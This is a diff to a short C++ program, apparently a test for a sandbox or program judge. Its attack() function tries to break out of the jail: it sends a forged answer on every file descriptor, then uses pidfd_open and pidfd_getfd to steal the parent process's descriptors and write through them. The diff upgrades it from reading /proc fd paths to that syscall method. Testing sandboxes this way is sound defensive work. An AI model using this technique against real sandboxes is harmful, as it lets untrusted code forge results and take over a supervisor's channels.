@@ -1,7 +1,7 @@
 // Looks for the socket over which the jail answers, among all descriptors of itself and of whoever
 // started it, and answers in its place. Says so if it can.
-#include <fcntl.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 #include <cstdio>
@@ -14,9 +14,9 @@ void attack() {
   bool has_answered = false;
   for (int each = 0; each < 1024; ++each)
     has_answered |= send(each, answer.data(), answer.size(), MSG_NOSIGNAL) > 0;
+  const long jail = syscall(SYS_pidfd_open, getppid(), 0);
   for (int each = 0; each < 64; ++each) {
-    const std::string path = "/proc/" + std::to_string(getppid()) + "/fd/" + std::to_string(each);
-    const int stolen = open(path.c_str(), O_RDWR);
+    const auto stolen = static_cast<int>(syscall(SYS_pidfd_getfd, jail, each, 0));
     has_answered |= stolen >= 0 && write(stolen, answer.data(), answer.size()) > 0;
   }
   if (has_answered) std::fputs("HAS ANSWERED\n", stderr);
